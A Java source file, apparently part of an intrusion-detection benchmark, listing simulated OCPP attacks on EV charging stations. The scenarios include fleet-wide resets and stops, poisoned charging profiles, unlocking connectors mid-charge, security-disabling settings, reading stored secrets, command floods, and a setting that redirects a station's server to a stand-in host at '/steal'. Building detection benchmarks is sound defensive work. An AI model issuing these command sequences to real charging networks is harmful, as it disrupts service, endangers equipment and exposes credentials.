// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.attack;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.simulation.Json;
import io.ferrule.benchmarks.ids.simulation.Station;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BiConsumer;

/** A42 to A46, A55, A56 and A58: commands over a channel that is legitimate. */
final class OperatorAttacks {

    private OperatorAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(masses());
        all.addAll(profiles());
        all.addAll(sessions());
        all.addAll(settings());
        all.addAll(bursts());
        return all;
    }

    /** The same for each station, so many seconds apart. */
    private static Attack mass(String type, String name, double seconds, BiConsumer<Stage, Station> act) {
        return new Attack(
                type,
                name,
                s -> s.every(
                        seconds, s.fleet().size(), i -> act.accept(s, s.fleet().get(i))));
    }

    private static List<Attack> masses() {
        return List.of(
                new Attack("A42", "every charge is stopped", s -> {
                    s.fleet().forEach(station -> s.whileCharging(station, 40_000, () -> {}));
                    s.later(1_200, () -> s.fleet().forEach(station -> remoteStop(s, station)));
                }),
                mass(
                        "A42",
                        "every station is reset",
                        0.4,
                        (s, st) -> s.command(st, "Reset", Json.object("type", "Hard"))),
                mass("A42", "every station goes out of service", 1, (s, st) -> inoperative(s, st)),
                mass(
                        "A42",
                        "a charge is started everywhere",
                        0.5,
                        (s, st) -> s.command(
                                st, "RemoteStartTransaction", Json.object("connectorId", 1, "idTag", "04DEADBEEF"))),
                mass(
                        "A44",
                        "everybody at full power at once",
                        0.2,
                        (s, st) -> profile(s, st, 1, 200, "ChargePointMaxProfile")),
                mass(
                        "A44",
                        "every limit is cleared at once",
                        0.2,
                        (s, st) -> s.command(st, "ClearChargingProfile", Json.object())),
                mass(
                        "A44",
                        "everybody at nothing at once",
                        0.2,
                        (s, st) -> profile(s, st, 0, 0, "ChargePointMaxProfile")),
                mass("A50", "every cache is cleared", 0.5, (s, st) -> s.command(st, "ClearCache", Json.object())),
                mass("A56", "every setting of every station is read", 2, (s, st) -> st.channel()
                        .command("GetConfiguration", Json.object(), Json.object("configurationKey", Json.array()))),
                mass(
                        "A58",
                        "a charge stopped every five minutes",
                        300,
                        (s, st) -> s.whileCharging(st, 40_000, () -> remoteStop(s, st))),
                mass(
                        "A58",
                        "a station reset every five minutes",
                        300,
                        (s, st) -> s.command(st, "Reset", Json.object("type", "Hard"))),
                mass("A58", "a station out of service every five minutes", 300, OperatorAttacks::inoperative),
                mass(
                        "A58",
                        "a station throttled every five minutes",
                        300,
                        (s, st) -> profile(s, st, 0, 0, "ChargePointMaxProfile")));
    }

    private static void inoperative(Stage stage, Station station) {
        stage.command(station, "ChangeAvailability", Json.object("connectorId", 0, "type", "Inoperative"));
    }

    private static void remoteStop(Stage stage, Station station) {
        stage.command(
                station, "RemoteStopTransaction", Json.object("transactionId", Math.max(1, station.transaction(1))));
    }

    private static void profile(Stage stage, Station station, int connector, double amps, String purpose) {
        stage.command(station, "SetChargingProfile", profile(connector, purpose, "A", amps));
    }

    static ObjectNode profile(int connector, String purpose, String unit, double... limits) {
        ArrayNode periods = Json.array();
        for (int i = 0; i < limits.length; i++) {
            periods.add(Json.object("startPeriod", i * 600, "limit", limits[i]));
        }
        return Json.object(
                "connectorId",
                connector,
                "csChargingProfiles",
                Json.object(
                        "chargingProfileId",
                        66,
                        "stackLevel",
                        1,
                        "chargingProfilePurpose",
                        purpose,
                        "chargingProfileKind",
                        "Relative",
                        "chargingSchedule",
                        Json.object("chargingRateUnit", unit, "chargingSchedulePeriod", periods)));
    }

    private static Attack poison(String name, ObjectNode profile) {
        return new Attack("A43", name, s -> s.command("SetChargingProfile", profile));
    }

    private static List<Attack> profiles() {
        double[] many = new double[3_000];
        java.util.Arrays.fill(many, 16);
        ObjectNode old = profile(1, "TxDefaultProfile", "A", 16);
        ((ObjectNode) old.get("csChargingProfiles")).put("validTo", "2020-01-01T00:00:00Z");
        ObjectNode late = profile(1, "TxDefaultProfile", "A", 16);
        ((ObjectNode) late.get("csChargingProfiles")).put("validFrom", "2099-01-01T00:00:00Z");
        ObjectNode top = profile(1, "TxDefaultProfile", "A", 16);
        ((ObjectNode) top.get("csChargingProfiles")).put("stackLevel", 2_000_000);
        return List.of(
                poison("a megawatt", profile(1, "TxDefaultProfile", "W", 1_000_000)),
                poison("less than nothing", profile(1, "TxDefaultProfile", "A", -16)),
                poison("three thousand periods", profile(1, "TxDefaultProfile", "A", many)),
                poison("over since years", old),
                poison("from a later century on", late),
                poison("above every other profile for ever", top),
                new Attack(
                        "A43",
                        "nothing and everything in turns",
                        s -> s.every(15, 40, i -> profile(s, s.victim(), 1, i % 2 * 32, "TxDefaultProfile"))),
                new Attack(
                        "A43",
                        "nothing and everything, slowly",
                        s -> s.every(120, 40, i -> profile(s, s.victim(), 1, 6 + i % 2 * 26, "TxDefaultProfile"))),
                new Attack(
                        "A43",
                        "nothing for the whole station",
                        s -> profile(s, s.victim(), 0, 0, "ChargePointMaxProfile")));
    }

    private static List<Attack> sessions() {
        ObjectNode profile =
                (ObjectNode) profile(1, "TxProfile", "W", 1_000_000).get("csChargingProfiles");
        return List.of(
                new Attack(
                        "A45",
                        "a charge for a card that nobody knows",
                        s -> s.every(
                                200,
                                6,
                                i -> s.command(
                                        "RemoteStartTransaction",
                                        Json.object("connectorId", 1, "idTag", "04666666" + i)))),
                new Attack(
                        "A45",
                        "a charge with a profile beyond the rating",
                        s -> s.command(
                                "RemoteStartTransaction",
                                Json.object("connectorId", 1, "idTag", "0466666666", "chargingProfile", profile))),
                new Attack(
                        "A45",
                        "unlocked while it charges",
                        s -> s.whileCharging(() -> s.command(
                                "UnlockConnector", Json.object("connectorId", 1), Json.object("status", "Unlocked")))));
    }

    private static List<Attack> settings() {
        List<Attack> all = new ArrayList<>();
        List.of(
                        List.of("AuthorizationKey", "6d79736563726574206b657920313233"),
                        List.of("SecurityProfile", "0"),
                        List.of("CentralSystemURL", "ws://203.0.113.66/steal"),
                        List.of("OcppServerHost", "203.0.113.66"),
                        List.of("HeartbeatInterval", "1"),
                        List.of("MeterValueSampleInterval", "1"),
                        List.of("AllowOfflineTxForUnknownId", "true"),
                        List.of("FreeModeActive", "true"),
                        List.of("WebSocketPingInterval", "1"))
                .forEach(setting -> all.add(new Attack(
                        "A46",
                        setting.get(0) + " = " + setting.get(1),
                        s -> s.command(
                                "ChangeConfiguration", Json.object("key", setting.get(0), "value", setting.get(1))))));
        all.add(new Attack(
                "A56",
                "secrets are asked for",
                s -> s.command(
                        "GetConfiguration",
                        Json.object("key", Json.array("AuthorizationKey", "WifiPassword")),
                        Json.object("unknownKey", Json.array("WifiPassword")))));
        all.add(mass("A56", "every list and every state is asked for", 3, (s, st) -> {
            st.channel().command("GetLocalListVersion", Json.object(), Json.object("listVersion", 0));
            s.command(st, "TriggerMessage", Json.object("requestedMessage", "BootNotification"));
        }));
        return all;
    }

    private static List<Attack> bursts() {
        return List.of(
                new Attack(
                        "A55",
                        "twenty wishes a second",
                        s -> s.every(
                                0.05,
                                200,
                                i -> s.rawCsms(Json.call(
                                        s.id(), "TriggerMessage", Json.object("requestedMessage", "MeterValues"))))),
                new Attack(
                        "A55",
                        "twelve commands at once",
                        s -> s.every(
                                0.01,
                                12,
                                i -> s.rawCsms(Json.call(
                                        s.id(), "GetConfiguration", Json.object("key", Json.array("Key" + i)))))),
                new Attack(
                        "A55",
                        "limits faster than a controller can follow",
                        s -> s.every(
                                0.1,
                                150,
                                i -> s.rawCsms(Json.call(
                                        s.id(),
                                        "SetChargingProfile",
                                        profile(1, "TxDefaultProfile", "A", 10 + i % 5))))));
    }
}
